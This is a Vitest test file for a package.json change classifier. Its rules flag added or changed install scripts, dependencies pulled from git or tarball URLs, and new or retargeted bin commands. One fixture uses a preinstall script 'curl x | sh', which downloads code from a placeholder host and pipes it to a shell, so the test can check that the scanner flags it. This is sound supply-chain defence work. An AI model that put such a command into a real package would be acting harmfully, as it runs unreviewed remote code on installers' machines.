import { describe, expect, it } from 'vitest';
import binAdded from '../../src/classify/rules/bin-added.js';
import dependencyAdded from '../../src/classify/rules/dependency-added.js';
import installScript from '../../src/classify/rules/install-script.js';
import { runRule, ruleTester } from '../helpers/rule-tester.js';

const base = { name: 'demo', version: '1.0.0' };

describe('install-script', () => {
  ruleTester(installScript, {
    valid: [
      { name: 'unchanged postinstall', before: { ...base, scripts: { postinstall: 'node a.js' } }, after: { ...base, scripts: { postinstall: 'node a.js' } } },
      { name: 'non-install script added', before: base, after: { ...base, scripts: { test: 'vitest', build: 'tsc' } } },
      { name: 'install script removed', before: { ...base, scripts: { preinstall: 'x' } }, after: base },
    ],
    invalid: [
      {
        name: 'postinstall added',
        before: base,
        after: { ...base, scripts: { postinstall: 'node scripts/setup.js' } },
        findings: [{ severity: 'high', message: 'install script "postinstall" added', evidence: '"postinstall": "node scripts/setup.js"', line: 4 }],
      },
      {
        name: 'preinstall changed: the old one is removed, the new one introduced',
        before: { ...base, scripts: { preinstall: 'node a.js' } },
        after: { ...base, scripts: { preinstall: 'curl x | sh' } },
        findings: [{ message: 'install script "preinstall" changed; it makes network requests', evidence: '"preinstall": "node a.js" → "curl x | sh"' }],
        removed: 1,
      },
    ],
  });
});

describe('dependency-added', () => {
  ruleTester(dependencyAdded, {
    valid: [
      { name: 'range bump of an existing registry dependency', before: { ...base, dependencies: { a: '^1.0.0' } }, after: { ...base, dependencies: { a: '^2.0.0' } } },
      { name: 'devDependency added', before: base, after: { ...base, devDependencies: { vitest: '^4' } } },
    ],
    invalid: [
      { name: 'registry dependency added', before: base, after: { ...base, dependencies: { chalk: '^5.0.0' } }, findings: [{ severity: 'low', message: 'dependency "chalk" added' }] },
      {
        name: 'git dependency added',
        before: base,
        after: { ...base, dependencies: { 'left-pad': 'git+https://example.invalid/left-pad.git' } },
        findings: [{ severity: 'high', message: 'dependency "left-pad" added from a git source' }],
      },
      {
        name: 'existing dependency moved to a tarball URL',
        before: { ...base, dependencies: { x: '^1.0.0' } },
        after: { ...base, dependencies: { x: 'https://example.invalid/x.tgz' } },
        findings: [{ severity: 'high', message: 'dependency "x" added from a URL', evidence: 'dependencies: "x": "https://example.invalid/x.tgz" (was "^1.0.0")' }],
        removed: 1,
      },
      { name: 'optional dependency', before: base, after: { ...base, optionalDependencies: { fsevents: '^2' } }, findings: [{ message: 'optionalDependency "fsevents" added' }] },
    ],
  });
  it('keeps the fingerprint of a registry dependency across range bumps', () => {
    const a = runRule(dependencyAdded, { before: base, after: { ...base, dependencies: { a: '^1' } } }).introduced[0]!;
    const b = runRule(dependencyAdded, { before: base, after: { ...base, dependencies: { a: '^2' } } }).introduced[0]!;
    expect(a.fingerprint).toBe(b.fingerprint);
  });
});

describe('bin-added', () => {
  ruleTester(binAdded, {
    valid: [
      { name: 'string bin unchanged', before: { ...base, bin: 'cli.js' }, after: { ...base, bin: 'cli.js' } },
      { name: 'string bin written as the equivalent map', before: { ...base, bin: 'cli.js' }, after: { ...base, bin: { demo: 'cli.js' } } },
    ],
    invalid: [
      { name: 'new command', before: base, after: { ...base, bin: { demo: 'cli.js' } }, findings: [{ severity: 'medium', message: 'command "demo" added' }] },
      { name: 'command retargeted', before: { ...base, bin: { demo: 'a.js' } }, after: { ...base, bin: { demo: 'b.js' } }, findings: [{ message: 'command "demo" now runs another file' }], removed: 1 },
    ],
  });
});
